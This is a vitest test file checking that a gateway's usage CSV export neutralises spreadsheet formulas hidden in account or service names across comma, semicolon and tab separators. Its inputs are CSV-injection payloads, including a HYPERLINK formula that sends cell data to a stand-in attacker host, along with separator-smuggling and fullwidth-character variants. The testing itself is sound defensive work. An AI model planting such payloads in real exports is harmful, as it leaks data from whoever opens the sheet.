import { describe, expect, it } from 'vitest'
import { usageCsv } from '../../packages/gateway/src/cli/usage/texts.ts'

// Ids begin with the kind of account, so the check of their first letter saw no formula; but a spreadsheet in a country of the decimal comma splits lines at semicolons, and
// `oidc:entra:x;=HYPERLINK(…)`, or a service of that name, was a formula in a cell of its own.

const counts = { requests: 1, units: 1, megapixels: 0, records: 0, renders: 0, hits: 0, bytes: 0, refused: 0 }
const asked = {
  by: ['principal', 'service'],
  every: undefined,
  from: 0,
  to: 1,
  top: undefined,
} as const

/** The cells of a line as a spreadsheet shows them that splits at this separator; what stands behind a quote belongs to the cell. */
function cellsOf(line: string, separator: ',' | ';' | '\t'): readonly string[] {
  const cell = new RegExp(`(?:^|${separator})(?:"((?:[^"]|"")*)")?([^${separator}]*)`, 'gs')
  return [...line.matchAll(cell)].map(([, quoted = '', plain = '']) => quoted.replaceAll('""', '"') + plain)
}

describe('A name with a formula in it', () => {
  const names = [
    'oidc:entra:x;=HYPERLINK("http://attacker.example/?"&A1)',
    'maps/x;+1+1',
    'user:x;-2;@SUM(1)',
    'user:x\t=1+1',
    'user:x\r\n=1+1',
    'user:x; =1+1',
    'user:x;"=1+1;y',
    '=1+1',
    '\uff1d1+1',
    'user:x;\uff0b1',
  ]
  it.each(
    names.flatMap((name) => ([',', ';', '\t'] as const).map((separator) => [name, separator] as const)),
  )('%j is no formula where lines are split at %j', (name, separator) => {
    const line = { at: 0, names: [name, name], ...counts }
    const csv = usageCsv([line], asked)
    const first = csv.slice(csv.indexOf('\r\n') + 2)
    const cells = cellsOf(first, separator).flatMap((cell) => cell.split(/\r\n|\r|\n|\t/))
    expect(cells.length).toBeGreaterThan(0)
    expect(cells.filter((cell) => /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([])
  })
})
